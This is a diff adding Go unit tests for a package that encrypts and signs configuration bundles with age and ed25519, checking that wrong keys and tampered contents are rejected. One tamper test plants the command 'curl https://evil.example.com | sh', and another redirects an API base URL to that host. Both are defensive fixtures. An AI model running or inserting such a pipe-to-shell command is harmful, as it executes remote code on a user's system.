@@ -0,0 +1,119 @@
+package bundle
+
+import (
+	"bytes"
+	"crypto/ed25519"
+	"crypto/rand"
+	"io"
+	"testing"
+	"time"
+
+	"filippo.io/age"
+	"filippo.io/age/armor"
+	"github.com/BurntSushi/toml"
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+)
+
+// newTestKeys returns a fresh signing key and age identity
+func newTestKeys(t *testing.T) (ed25519.PrivateKey, *age.X25519Identity) {
+	t.Helper()
+	_, signingKey, err := ed25519.GenerateKey(rand.Reader)
+	require.NoError(t, err, "Failed to generate signing key")
+	identity, err := age.GenerateX25519Identity()
+	require.NoError(t, err, "Failed to generate identity")
+	return signingKey, identity
+}
+
+// encodeForTest writes b without sealing it
+func encodeForTest(w io.Writer, b *Bundle) error {
+	return toml.NewEncoder(w).Encode(b)
+}
+
+// encryptForTest encrypts plaintext like Seal, but without signing
+func encryptForTest(t *testing.T, plaintext []byte, recipient age.Recipient) []byte {
+	t.Helper()
+	var out bytes.Buffer
+	armorWriter := armor.NewWriter(&out)
+	w, err := age.Encrypt(armorWriter, recipient)
+	require.NoError(t, err)
+	_, err = w.Write(plaintext)
+	require.NoError(t, err)
+	require.NoError(t, w.Close())
+	require.NoError(t, armorWriter.Close())
+	return out.Bytes()
+}
+
+func TestSealOpen(t *testing.T) {
+	signingKey, identity := newTestKeys(t)
+
+	original := &Bundle{
+		Profile: "work",
+		Created: time.Now().UTC().Truncate(time.Second),
+		Values: map[string]string{
+			"ANTHROPIC_AUTH_TOKEN": "sk-work-xxxxx",
+			"_web_url":             "https://dashboard.company.com",
+		},
+		Commands: map[string]string{"console": "psql $DATABASE_URL"},
+	}
+
+	data, err := Seal(original, signingKey, identity.Recipient())
+	require.NoError(t, err, "Seal should succeed")
+	assert.NotContains(t, string(data), "sk-work-xxxxx", "bundle should be encrypted")
+	assert.Contains(t, string(data), "BEGIN AGE ENCRYPTED FILE", "bundle should be armored")
+
+	opened, err := Open(data, identity)
+	require.NoError(t, err, "Open should succeed")
+
+	assert.Equal(t, "work", opened.Profile)
+	assert.Equal(t, original.Values, opened.Values)
+	assert.Equal(t, original.Commands, opened.Commands)
+	assert.Equal(t, original.Fingerprint(), opened.Fingerprint(), "signer should survive round trip")
+}
+
+func TestOpenWrongIdentity(t *testing.T) {
+	signingKey, identity := newTestKeys(t)
+	_, other := newTestKeys(t)
+
+	data, err := Seal(&Bundle{Profile: "work", Values: map[string]string{"K": "v"}}, signingKey, identity.Recipient())
+	require.NoError(t, err, "Seal should succeed")
+
+	_, err = Open(data, other)
+	assert.Error(t, err, "Open with another identity should fail")
+}
+
+func TestOpenTamperedSignature(t *testing.T) {
+	signingKey, identity := newTestKeys(t)
+
+	b := &Bundle{Profile: "work", Values: map[string]string{"ANTHROPIC_BASE_URL": "https://api.company.com"}}
+	_, err := Seal(b, signingKey, identity.Recipient())
+	require.NoError(t, err, "Seal should succeed")
+
+	// Re-encrypt a modified bundle that keeps the original signature
+	b.Values["ANTHROPIC_BASE_URL"] = "https://evil.example.com"
+	var plaintext bytes.Buffer
+	require.NoError(t, encodeForTest(&plaintext, b))
+	data := encryptForTest(t, plaintext.Bytes(), identity.Recipient())
+
+	_, err = Open(data, identity)
+	require.Error(t, err, "tampered bundle should be rejected")
+	assert.Contains(t, err.Error(), "signature")
+}
+
+func TestOpenTamperedCommands(t *testing.T) {
+	signingKey, identity := newTestKeys(t)
+
+	b := &Bundle{Profile: "work", Values: map[string]string{"K": "v"}}
+	_, err := Seal(b, signingKey, identity.Recipient())
+	require.NoError(t, err, "Seal should succeed")
+
+	// Commands are signed too
+	b.Commands = map[string]string{"console": "curl https://evil.example.com | sh"}
+	var plaintext bytes.Buffer
+	require.NoError(t, encodeForTest(&plaintext, b))
+	data := encryptForTest(t, plaintext.Bytes(), identity.Recipient())
+
+	_, err = Open(data, identity)
+	require.Error(t, err, "tampered bundle should be rejected")
+	assert.Contains(t, err.Error(), "signature")
+}